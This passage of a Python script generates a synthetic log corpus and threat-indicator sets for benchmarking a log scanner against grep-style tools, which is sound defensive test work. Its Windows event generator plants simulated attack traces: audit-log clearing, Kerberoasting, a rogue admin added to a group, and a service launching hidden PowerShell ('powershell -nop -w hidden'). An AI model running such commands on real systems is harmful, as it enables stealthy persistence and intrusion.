                "user profile updated", "email queued"))), r.getrandbits(128))

    # -- Windows Security CSV export (ISO first column, as Chainsaw/Hayabusa-style exports)
    def wincsv(self, c):
        r = self.rng
        c.tick()
        x = r.random()
        ts = "%s.%07dZ" % (c.iso, r.randrange(10**7))
        host = r.choice(("DC01.corp.example", "DC02.corp.example", "FS01.corp.example", "WS-0142.corp.example"))
        if x < 0.06:
            src = r.choice(self.bg_ips) if r.random() < 0.3 else r.choice(self.lan_ips)
            if x < self.sight:
                src = self.ioc_ip()
            return '%s,%s,Security,4625,Information,Logon,"An account failed to log on. Subject: Security ID: S-1-0-0 Account Name: - Logon Type: 3 Account For Which Logon Failed: Account Name: %s Account Domain: CORP Failure Reason: Unknown user name or bad password. Source Network Address: %s Source Port: %d"' % (
                ts, host, r.choice(BRUTE_USERS + USERS), src, r.randrange(1024, 65535))
        if x < 0.0603:
            self.bump("planted.win-admin-group-add")
            return '%s,%s,Security,4732,Information,Security Group Management,"A member was added to a security-enabled local group. Subject: Account Name: svc_upd Member: Security ID: CORP\\svc_upd Group: Group Name: Administrators Group Domain: Builtin"' % (ts, host)
        if x < 0.06032:
            self.bump("planted.win-audit-log-cleared")
            return '%s,%s,Security,1102,Information,Log clear,"The audit log was cleared. Subject: Security ID: CORP\\svc_upd Account Name: svc_upd"' % (ts, host)
        if x < 0.06082:
            self.bump("planted.win-kerberoast")
            return '%s,%s,Security,4769,Information,Kerberos Service Ticket Operations,"A Kerberos service ticket was requested. Account Information: Account Name: %s@CORP.EXAMPLE Service Information: Service Name: %s Network Information: Client Address: ::ffff:%s Additional Information: Ticket Options: 0x40810000 Ticket Encryption Type: 0x17"' % (
                ts, host, r.choice(USERS), r.choice(("MSSQLSvc", "HTTP-intranet", "svc_backup")), r.choice(self.lan_ips))
        if x < 0.06112:
            self.bump("planted.win-service-installed")
            return '%s,%s,Security,4697,Information,Security System Extension,"A service was installed in the system. Subject: Account Name: svc_upd Service Information: Service Name: %s Service File Name: %s Service Type: 0x10 Service Start Type: 2"' % (
                ts, host, r.choice(("updsvc", "WinDefendHelper")), r.choice(("C:\\Windows\\Temp\\updsvc.exe", "%COMSPEC% /b /c start /b /min powershell -nop -w hidden")))
        if x < 0.06132:
            self.bump("planted.win-account-created")
            return '%s,%s,Security,4720,Information,User Account Management,"A user account was created. Subject: Account Name: svc_upd New Account: Security ID: CORP\\svc_bkp%d Account Name: svc_bkp%d"' % (
                ts, host, r.randrange(9), r.randrange(9))
        if x < 0.55:
            return '%s,%s,Security,4624,Information,Logon,"An account was successfully logged on. Subject: Security ID: S-1-5-18 Logon Type: %d New Logon: Account Name: %s Account Domain: CORP Logon ID: 0x%x Source Network Address: %s"' % (
                ts, host, r.choice((2, 3, 3, 3, 10)), self.user(r.choice(USERS)), r.getrandbits(28), r.choice(self.lan_ips))
        if x < 0.78:
            return '%s,%s,Security,4634,Information,Logoff,"An account was logged off. Subject: Account Name: %s Account Domain: CORP Logon ID: 0x%x Logon Type: 3"' % (
                ts, host, self.user(r.choice(USERS)), r.getrandbits(28))
        if x < 0.80:
            return '%s,%s,Security,4769,Information,Kerberos Service Ticket Operations,"A Kerberos service ticket was requested. Account Information: Account Name: %s@CORP.EXAMPLE Service Information: Service Name: %s Network Information: Client Address: ::ffff:%s Additional Information: Ticket Options: 0x40810000 Ticket Encryption Type: 0x12"' % (
                ts, host, r.choice(USERS), r.choice(("krbtgt", "FS01$", "DC02$", "HTTP-intranet")), r.choice(self.lan_ips))
        return '%s,%s,Security,4688,Information,Process Creation,"A new process has been created. Creator Subject: Account Name: %s New Process Name: C:\\Windows\\System32\\%s Token Elevation Type: %%%%1936"' % (
            ts, host, r.choice(USERS), r.choice(("conhost.exe", "svchost.exe", "taskhostw.exe", "cmd.exe", "WmiPrvSE.exe")))


# (relative path, generator, share of total bytes). Rotated names keep their number; the gz/
# form adds ".gz" to every one of them.
LAYOUT = [
    ("var/log/auth.log", "auth", 0.08),
    ("var/log/auth.log.1", "auth", 0.05),
    ("var/log/auth.log.2", "auth", 0.03),
    ("var/log/syslog", "syslog", 0.06),
    ("var/log/syslog.1", "syslog", 0.04),
    ("var/log/app/orders-rfc5424.log", "r5424", 0.10),
    ("var/log/nginx/access.log", "access", 0.14),
    ("var/log/nginx/access.log.1", "access", 0.10),
    ("var/log/nginx/access.log.2", "access", 0.06),
    ("var/log/apache2/access.log", "access", 0.06),
    ("var/log/apache2/access.log.1", "access", 0.04),
    ("edr/events.jsonl", "jsonl", 0.11),
    ("edr/events.jsonl.1", "jsonl", 0.03),
    ("windows/Security-export.csv", "wincsv", 0.10),
]

MTIME = 1767571200  # 2026-01-05: syslog year inference uses it; results must not depend on today
SETS = [10, 1000, 10000, 100000]
PLANTED_SHAPE = [("ipv4", 4), ("domain", 2), ("sha256", 1), ("email", 1)]  # 8, in every set
KIND_MIX = [("ipv4", 50), ("domain", 30), ("sha256", 15), ("email", 5)]    # % of the literals


def set_literal_count(n):
    """Set N = N indicators: the rules plus N - len(RULES) literals; the 10-set is literals only."""
    return n if n < 1000 else n - len(RULES)


def make_literals(rng, n_unplanted):
    """The 8 planted literals and n_unplanted others (50% IPv4, 30% domains, 15% sha256, 5%
    e-mail, in a random order). No unplanted literal is a substring of a planted one or the
    other way round, so grep -F (which has no boundary rule) finds exactly what timberline finds."""
    seen = set()
    gens = {
        "ipv4": lambda: rand_ip(rng, IOC_FIRST_OCTETS),
        "domain": lambda: "%s-%s%d.%s" % (rng.choice(WORDS), rng.choice(WORDS), rng.randrange(10, 999),
                                          rng.choice(TLDS)),
        "sha256": lambda: "%064x" % rng.getrandbits(256),
        "email": lambda: "%s.%s%d@%s-mail%d.%s" % (rng.choice(WORDS), rng.choice(WORDS), rng.randrange(99),
                                                    rng.choice(WORDS), rng.randrange(99), rng.choice(TLDS)),
    }

    def uniq(kind, planted=()):
        while True:
            v = gens[kind]()
            if v in seen or any(v in p or p in v for p in planted):
                continue
            seen.add(v)
            return v

    planted = [(uniq(k), k) for k, c in PLANTED_SHAPE for _ in range(c)]
    pvals = [v for v, _ in planted]
    kinds = []
    for k, pct in KIND_MIX:
        kinds += [k] * (n_unplanted * pct // 100)
    kinds += ["ipv4"] * (n_unplanted - len(kinds))
    rng.shuffle(kinds)
    return planted, [(uniq(k, pvals), k) for k in kinds]


def ere_escape(s):
    return re.sub(r"([.\[\](){}*+?|^$\\])", r"\\\1", s)


def write_rules(path):
    out = ["# Timberline benchmark rules (generated by bench/gen-corpus.py): %d PCRE2 rules over" % len(RULES),
           "# auth/syslog, RFC 5424, web access, JSON and Windows CSV lines.", ""]
    for rid, sev, desc, tags, rx, tm, tn in RULES:
        out += ["[rule %s]" % rid, "severity     = %s" % sev, "description  = %s" % desc,
                "tags         = %s" % tags, "regex        = %s" % plain(rx),
                "test.match   = %s" % tm, "test.nomatch = %s" % tn, ""]
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join(out))


def write_patterns(pdir, seed, planted, unplanted):
    """Every set's files; returns the per-set description for corpus.json."""
    os.makedirs(pdir)
    write_rules(os.path.join(pdir, "rules.rules"))
    rg_rules = [to_rg(plain(r[4])) for r in RULES]
    ere_rules = [to_ere(plain(r[4])) for r in RULES]
    with open(os.path.join(pdir, "rules-regex.txt"), "w") as f:
        f.write("".join(x + "\n" for x in rg_rules))
    with open(os.path.join(pdir, "rules-ere.txt"), "w") as f:
        f.write("".join(x + "\n" for x in ere_rules))
    with open(os.path.join(pdir, "catchall.rules"), "w") as f:
        f.write("# Every non-empty line is an event (BENCH_CATCHALL memory run).\n"
                "[rule catchall]\nseverity     = info\ndescription  = every line\n"
                "regex        = .\ntest.match   = x\ntest.nomatch =\n")
    sets = {}
    for n in SETS:
        nl = set_literal_count(n)
        lits = planted + unplanted[:nl - len(planted)]
        random.Random(seed * 1000003 + n).shuffle(lits)
        rules = n >= 1000
        with open(os.path.join(pdir, "iocs-%d.ioc" % n), "w") as f:
            f.write("# Benchmark indicator set %d (generated by bench/gen-corpus.py): %d literals%s;\n"
                    "# %d of them occur in the corpus. A quarter are written defanged.\n"
                    "# severity: high\n# description: Threat-intel feed (benchmark)\n"
                    "# tags: attack.t1071, command-and-control\n\n" % (
                        n, nl, " + the %d rules of rules.rules" % len(RULES) if rules else "", len(planted)))
            for i, (v, kind) in enumerate(lits):
                f.write((defang(v, kind) if i % 4 == 0 else v) + "\n")
        with open(os.path.join(pdir, "iocs-%d.txt" % n), "w") as f:
            f.write("".join(v + "\n" for v, _ in lits))
        if rules:
            with open(os.path.join(pdir, "combined-%d.txt" % n), "w") as f:
                f.write("".join(ere_escape(v) + "\n" for v, _ in lits) + "".join(x + "\n" for x in rg_rules))
            with open(os.path.join(pdir, "combined-%d.ere" % n), "w") as f:
                f.write("".join(ere_escape(v) + "\n" for v, _ in lits) + "".join(x + "\n" for x in ere_rules))
        sets[str(n)] = {"indicators": n, "literals": nl, "rules": len(RULES) if rules else 0,
                        "planted_literals": len(planted),
                        "literal_kinds": {k: sum(1 for _, kk in lits if kk == k) for k, _ in KIND_MIX}}
    return sets


def gzip_file(src, dst, level):
    with open(src, "rb") as fi, open(dst, "wb") as raw, \
            gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0, compresslevel=level) as z:
        shutil.copyfileobj(fi, z, 1 << 20)
    os.utime(dst, (MTIME, MTIME))


def make_gz_dir(plain_dir, gz_dir, rels, level):
    for rel in rels:
        dst = os.path.join(gz_dir, rel + ".gz")
        os.makedirs(os.path.dirname(dst), exist_ok=True)
        gzip_file(os.path.join(plain_dir, rel), dst, level)


def make_tar_gz(plain_dir, tgz, rels, level):
    """One gzipped ustar of the plain tree: sorted members, fixed mtimes, root-owned, no gzip
    name or time, so the archive is byte-identical from run to run."""
    os.makedirs(os.path.dirname(tgz), exist_ok=True)
    dirs = set()
    for r in rels:
        d = os.path.dirname(r)
        while d:
            dirs.add(d)
            d = os.path.dirname(d)

    def info(name, size, isdir):
        ti = tarfile.TarInfo(name + ("/" if isdir else ""))
        ti.type = tarfile.DIRTYPE if isdir else tarfile.REGTYPE
        ti.mode, ti.size, ti.mtime = (0o755 if isdir else 0o644), size, MTIME
        ti.uid = ti.gid = 0
        ti.uname = ti.gname = "root"
        return ti

    with open(tgz, "wb") as raw, \
            gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0, compresslevel=level) as z, \
            tarfile.open(fileobj=z, mode="w|", format=tarfile.USTAR_FORMAT) as t:
        for d in sorted(dirs):
            t.addfile(info(d, 0, True))
        for rel in sorted(rels):
            p = os.path.join(plain_dir, rel)
            with open(p, "rb") as f:
                t.addfile(info(rel, os.path.getsize(p), False), f)
    os.utime(tgz, (MTIME, MTIME))


def check_peers(cdir):
    """Each rule's test.match must hit and its test.nomatch must not, in every peer's dialect
    (rg: rules-regex.txt, ugrep: the same file, grep -E: rules-ere.txt), and GNU grep must not
    warn. Prints one line per failure and a JSON summary; exit status 1 on any failure."""
    import subprocess
    import tempfile
    pdir = os.path.join(cdir, "patterns")
    rg_rules = open(os.path.join(pdir, "rules-regex.txt")).read().splitlines()
    ere_rules = open(os.path.join(pdir, "rules-ere.txt")).read().splitlines()
    env = dict(os.environ, LC_ALL="C")
    tools = [("rg", ["rg", "--no-config", "-c", "-f"], rg_rules),
             ("ugrep", ["ugrep", "-c", "-f"], rg_rules),
             ("grep", ["grep", "-E", "-c", "-f"], ere_rules)]
    res, fails = {}, 0
    with tempfile.TemporaryDirectory() as td:
        pat, txt = os.path.join(td, "pat"), os.path.join(td, "line")
        for name, argv, pats in tools:
            if shutil.which(argv[0]) is None:
                res[name] = "not installed"
                continue
            bad = []
            for (rid, _, _, _, _, tm, tn), p in zip(RULES, pats):
                with open(pat, "w") as f:
                    f.write(p + "\n")
                for line, want in ((tm, 1), (tn, 0)):
                    with open(txt, "w", encoding="utf-8") as f:
                        f.write(line + "\n")
                    r = subprocess.run(argv + [pat, txt], capture_output=True, env=env)
                    got = None
                    if r.returncode in (0, 1):  # rg -c prints nothing when nothing matched
                        got = int(r.stdout.split()[-1]) if r.stdout.strip() else 0
                    if got != want or r.stderr.strip():
                        bad.append(rid)
                        print("check-peers: %s: rule %s: %s line: count %s, exit %d %s" % (
                            name, rid, "match" if want else "nomatch", got, r.returncode,
                            r.stderr.decode(errors="replace").strip()), file=sys.stderr)
            fails += len(bad)
            res[name] = "ok" if not bad else "failed: " + ", ".join(sorted(set(bad)))
    print(json.dumps(res))
    return 1 if fails else 0


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--dir", default=os.path.join(os.path.dirname(here), "build", "bench", "corpus"),
                    help="output directory (default: build/bench/corpus); replaced if it exists")
    ap.add_argument("--mb", type=float, default=1000.0, help="corpus size in MB (default 1000)")
    ap.add_argument("--seed", type=int, default=20260103, help="random seed")
    ap.add_argument("--gzip-level", type=int, default=6)
    ap.add_argument("--intl", type=float, default=0.03, metavar="SHARE",
                    help="share of user-name and message fields written in UTF-8 (default 0.03, about "
                         "0.8%% of all lines; 0 = an ASCII corpus apart from a few systemd arrows)")
    ap.add_argument("--check-peers", metavar="DIR", help="only check the peer regex dialects of DIR")
    a = ap.parse_args()
    if a.check_peers:
        sys.exit(check_peers(a.check_peers))

    t0 = time.time()
    rng = random.Random(a.seed)
    planted, unplanted = make_literals(rng, set_literal_count(max(SETS)) - sum(c for _, c in PLANTED_SHAPE))
    present = {}
    for v, k in planted:
        present.setdefault(k, []).append(v)
    if os.path.exists(a.dir):
        shutil.rmtree(a.dir)
    os.makedirs(a.dir)
    sets = write_patterns(os.path.join(a.dir, "patterns"), a.seed, planted, unplanted)

    stats = {}
    g = Gen(rng, present, stats, a.intl, a.seed + 1)
    total = int(a.mb * 1e6)
    pdir = os.path.join(a.dir, "plain")
    files = []
    start = 1767225600 - 86400 * 20  # 2025-12-12; each file covers a few hours from there
    for rel, kind, share in LAYOUT:
        target = int(total * share)
        fn = getattr(g, kind)
        clock = Clock(rng, start + rng.randrange(3600))
        n = lines = 0
        path = os.path.join(pdir, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            while n < target:
                block = ("\n".join([fn(clock) for _ in range(250)]) + "\n").encode("utf-8")
                f.write(block)
                n += len(block)
                lines += 250
        os.utime(path, (MTIME, MTIME))
        files.append({"path": rel, "bytes": n, "lines": lines})
    t_plain = time.time() - t0

    # The compressed forms are made from the plain files (zlib releases the GIL: two threads).
    rels = [f["path"] for f in files]
    gz_dir, tgz = os.path.join(a.dir, "gz"), os.path.join(a.dir, "tar", "corpus.tar.gz")
    import threading
    errs = []

    def run(fn, *args):
        try:
            fn(*args)
        except BaseException as e:  # noqa: BLE001 - re-raised below
            errs.append(e)
    th = [threading.Thread(target=run, args=(make_gz_dir, pdir, gz_dir, rels, a.gzip_level)),
          threading.Thread(target=run, args=(make_tar_gz, pdir, tgz, rels, a.gzip_level))]
    for t in th:
        t.start()
    for t in th:
        t.join()
    if errs:
        raise errs[0]
    for root, dirs, _ in os.walk(a.dir):
        for d in dirs:
            os.utime(os.path.join(root, d), (MTIME, MTIME))
    for f in files:
        f["gz_bytes"] = os.path.getsize(os.path.join(gz_dir, f["path"] + ".gz"))

    with open(os.path.abspath(__file__), "rb") as f:
        gen_sha = hashlib.sha256(f.read()).hexdigest()
    dec = sum(f["bytes"] for f in files)
    meta = {"seed": a.seed, "mb": a.mb, "intl": a.intl, "generator_sha256": gen_sha, "gzip_level": a.gzip_level,
            "decoded_bytes": dec, "lines": sum(f["lines"] for f in files), "files": files,
            "forms": {"plain": {"path": "plain", "bytes": dec},
                      "gz": {"path": "gz", "bytes": sum(f["gz_bytes"] for f in files)},
                      "tar": {"path": "tar/corpus.tar.gz", "bytes": os.path.getsize(tgz)}},
            "rules": len(RULES), "sets": sets,
            "planted_literals": [{"value": v, "kind": k} for v, k in planted],
            "planted": dict(sorted(stats.items())),
            "seconds": {"plain": round(t_plain, 1), "total": round(time.time() - t0, 1)}}
    with open(os.path.join(a.dir, "corpus.json"), "w") as f:
        json.dump(meta, f, indent=1)
    print("gen-corpus: %s: %.1f MB in %d lines, %d files; gz/ %.1f MB, tar.gz %.1f MB; sets %s; %.1fs" % (
        a.dir, dec / 1e6, meta["lines"], len(files), meta["forms"]["gz"]["bytes"] / 1e6,
        meta["forms"]["tar"]["bytes"] / 1e6, "/".join(str(n) for n in SETS), time.time() - t0),
        file=sys.stderr)


if __name__ == "__main__":
    main()
